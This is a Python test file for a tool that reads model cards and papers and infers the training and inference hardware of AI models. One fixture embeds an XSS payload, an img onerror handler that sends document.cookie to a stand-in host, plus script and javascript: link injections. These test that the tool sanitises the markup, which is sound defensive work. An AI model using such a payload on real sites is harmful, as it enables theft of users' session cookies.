"""Resolution end to end: documents in a store, one verdict and its evidence out."""

from __future__ import annotations

from pathlib import Path

from helpers import judge, judge_card, judge_paper, training_of

from chipaudit.pipeline import classify_models
from chipaudit.resolve import ViewCache, resolve_model
from chipaudit.store import Document, Store
from chipaudit.text import plain_text

# cases.md C06: a card with a hostile image, a <details> block, a script and
# a javascript: link around the one training sentence.
C06_CARD = """<div align="center"><img src=x onerror="fetch('//x.example/'+document.cookie)"></div>
<details><summary>Training</summary>Trained on <b>256&nbsp;TPU&nbsp;v5e</b> chips.</details>
<script>alert(1)</script>
[project page](javascript:alert(2))
"""  # noqa: E501

# cases.md C16 (a): extracted paper text with a line-end hyphen in "Ascend",
# a ﬁ ligature and a hyphen that belongs ("A100-80GB").
C16_PAPER = (
    "We pre-trained on 2,048 As-\ncend 910B NPUs and then "
    "\ufb01ne-tuned on 8 A100-\n80GB GPUs."
)


def test_c06_html_card(tmp_path: Path) -> None:
    verdict, evidence = judge_card(tmp_path, C06_CARD)
    assert training_of(verdict) == (["google_tpu"], ["TPU v5e"], 256, "chip+count")
    assert evidence[0]["quote"] == "Trained on 256 TPU v5e chips."
    assert evidence[0]["line"] == 2
    for row in evidence:
        assert "<" not in row["quote"] and "&nbsp;" not in row["quote"]


def test_c16a_paper_with_hyphens_and_ligatures(tmp_path: Path) -> None:
    verdict, evidence = judge_paper(tmp_path, C16_PAPER)
    assert verdict["training_providers"] == ["huawei_ascend", "nvidia"]
    assert verdict["training_chips"] == ["Ascend 910B", "A100"]
    assert verdict["disclosure"] == "chip+count"
    by_chip = {row["chip"]: row for row in evidence if row["phase"] == "training"}
    assert by_chip["Ascend 910B"]["count"] == 2048
    assert by_chip["A100"]["count"] == 8
    plain = plain_text(C16_PAPER, source="paper")
    for row in evidence:
        assert row["quote"] in plain
        assert "Ascend 910B" in row["quote"] and "fine-tuned" in row["quote"]
    assert [row["line"] for row in by_chip.values()] == [1, 2]


def test_c01_base_models_verdict_is_lineage_never_training(tmp_path: Path) -> None:
    cards = {
        "acme/widget-7b": "---\nbase_model: acme/base-7b\n---\nA fine-tune.\n",
        "acme/base-7b": "The model was trained on 512 H800 GPUs.\n",
    }
    with Store(tmp_path / "t.db") as store:
        for model_id, text in cards.items():
            store.put_model(model_id)
            store.put_document(Document("modelcard", model_id, text))
        classify_models(store)
        verdict = store.get_verdict("acme/widget-7b")
    assert verdict["training_providers"] == []
    assert verdict["disclosure"] == "none"
    assert verdict["base_models"] == ["acme/base-7b"]
    assert verdict["base_model_training_providers"] == ["nvidia"]


def test_c01_merge_lists_every_parent(tmp_path: Path) -> None:
    card = (
        "---\nbase_model:\n  - Qwen/Qwen2.5-7B\n  - meta-llama/Llama-3.1-8B\n"
        "base_model_relation: merge\n---\nA merge.\n"
    )
    verdict, _ = judge_card(tmp_path, card)
    assert verdict["base_models"] == ["Qwen/Qwen2.5-7B", "meta-llama/Llama-3.1-8B"]
    assert verdict["training_providers"] == []


def test_a_family_statement_in_the_own_card_counts(tmp_path: Path) -> None:
    card = "# Widget\n\nAll Widget models were trained on 512 H100 GPUs.\n"
    verdict, evidence = judge_card(tmp_path, card)
    assert training_of(verdict) == (["nvidia"], ["H100"], 512, "chip+count")
    assert evidence[0]["about"] == "family"


def test_a_paper_count_for_the_largest_size_is_not_this_models(tmp_path: Path) -> None:
    paper = (
        "Our largest model was trained on 2048 TPU v4 chips for 30 days, "
        "and the smaller ones on 256 TPU v4 chips."
    )
    verdict, _ = judge_paper(tmp_path, paper)
    assert training_of(verdict) == (["google_tpu"], ["TPU v4"], None, "chip")


def test_either_or_names_no_chip(tmp_path: Path) -> None:
    verdict, _ = judge_card(
        tmp_path, "Either A100 or H100 GPUs were used to train the model."
    )
    assert training_of(verdict) == ([], [], None, "none")


def test_evidence_rows_carry_every_field(tmp_path: Path) -> None:
    card = "# Widget\n\n## Training\n\nThe model was trained on 64 A100 GPUs.\n"
    _, evidence = judge_card(tmp_path, card)
    assert evidence == [
        {
            "source": "modelcard",
            "document_key": "modelcard:acme/widget-7b",
            "line": 5,
            "phase": "training",
            "provider": "nvidia",
            "chip": "A100",
            "count": 64,
            "quote": "The model was trained on 64 A100 GPUs.",
            "rule": "statement:trained",
            "about": "self",
        }
    ]


def test_training_rows_come_before_inference_rows(tmp_path: Path) -> None:
    card = (
        "## Usage\n\nRun it on an RTX 4090 for inference.\n\n"
        "## Training\n\nThe model was trained on 64 A100 GPUs.\n"
    )
    verdict, evidence = judge_card(tmp_path, card)
    assert [row["phase"] for row in evidence] == ["training", "inference"]
    assert verdict["inference_providers"] == ["nvidia"]
    assert verdict["inference_chips"] == ["RTX 4090"]


def test_the_same_store_gives_the_same_verdict(tmp_path: Path) -> None:
    judge(
        tmp_path,
        cards={"acme/widget-7b": C06_CARD},
        papers={"2401.00001": C16_PAPER},
        files={"acme/widget:train.py": "model.cuda()\n"},
    )
    with Store(tmp_path / "t.db") as store:
        first = resolve_model(store, "acme/widget-7b", ViewCache())
        second = resolve_model(store, "acme/widget-7b", ViewCache())
    assert first == second


def test_repos_and_papers_linked_in_the_card_text_are_read(tmp_path: Path) -> None:
    card = (
        "Code: https://github.com/acme/widget-train\n"
        "Paper: https://arxiv.org/abs/2401.00002\n"
    )
    with Store(tmp_path / "t.db") as store:
        store.put_model("acme/widget-7b")
        store.put_document(Document("modelcard", "acme/widget-7b", card))
        store.put_document(Document("paper", "2401.00002", "We trained on TPU v4."))
        store.put_document(
            Document("github", "acme/widget-train:README.md", "Trained on 8 A100 GPUs.")
        )
        verdict, evidence = resolve_model(store, "acme/widget-7b", ViewCache())
    assert "google_tpu" in verdict["training_providers"]
    keys = {row["document_key"] for row in evidence}
    assert keys == {"paper:2401.00002", "github:acme/widget-train:README.md"}


def test_a_quantized_copy_does_not_inherit_its_cards_training_story(
    tmp_path: Path,
) -> None:
    # A GGUF repack whose card repeats the original release's training line.
    card = (
        "---\nbase_model: acme/Widget-7B\n---\n"
        "The model was trained on 512 H100 GPUs.\n\n"
        "Run it locally with llama.cpp on an Apple M2 Max."
    )
    verdict, evidence = judge_card(tmp_path, card, model_id="someone/Widget-7B-GGUF")
    assert verdict["training_providers"] == []
    assert verdict["basis"] == "packaging"
    assert verdict["inference_providers"] == ["apple"]
    assert any(row["phase"] == "training" for row in evidence)  # kept, not used


def test_a_copied_base_model_statement_is_the_base_models(tmp_path: Path) -> None:
    # A fine-tune card that quotes its base model's card by name.
    card = (
        "---\nbase_model: acme/Widget-7B\n---\n"
        "Widget 7B was pretrained on 1024 TPU v4 chips.\n\n"
        "We fine-tuned it on 8 A100 GPUs for two days."
    )
    verdict, _ = judge_card(tmp_path, card, model_id="someone/helper-chat")
    assert verdict["training_providers"] == ["nvidia"]
    assert verdict["training_count"] == 8


def test_a_captioned_table_in_paper_text_counts_this_models_row(
    tmp_path: Path,
) -> None:
    # pdftotext output of an appendix table: rows without pipes under a
    # "Table N:" caption; only this model's row is its training.
    paper = (
        "Table 9: Hardware used to pretrain each model size.\n"
        "Model GPUs Type Days\n"
        "Widget-1B 64 H100 3\n"
        "Widget-7B 256 H100 12\n"
        "Widget-30B 1024 H100 31\n\n"
        "We report the results of the evaluation below; all numbers are averages.\n"
    )
    verdict, _ = judge_paper(tmp_path, paper, model_id="acme/widget-7b")
    assert training_of(verdict) == (["nvidia"], ["H100"], 256, "chip+count")


def test_first_evidence_row_is_the_one_that_decided(tmp_path: Path) -> None:
    # A training script in the linked repository sorts before the card by
    # document key; `show` and the report still lead with the statement the
    # verdict rests on.
    card = "# widget-7b\n\n## Training\nWe trained this model on 64 NVIDIA H100 GPUs.\n"
    launcher = (
        "#!/bin/bash\nexport NCCL_DEBUG=INFO\ntorchrun --nproc_per_node 8 train.py\n"
    )
    verdict, evidence = judge(
        tmp_path,
        cards={"acme/widget-7b": card},
        files={"acme/widget:scripts/train.sh": launcher},
    )
    assert verdict["training_chips"] == ["H100"]
    assert any(row["document_key"].startswith("github:") for row in evidence)
    assert evidence[0]["chip"] == "H100"
    assert evidence[0]["rule"] == verdict["training_rule"]
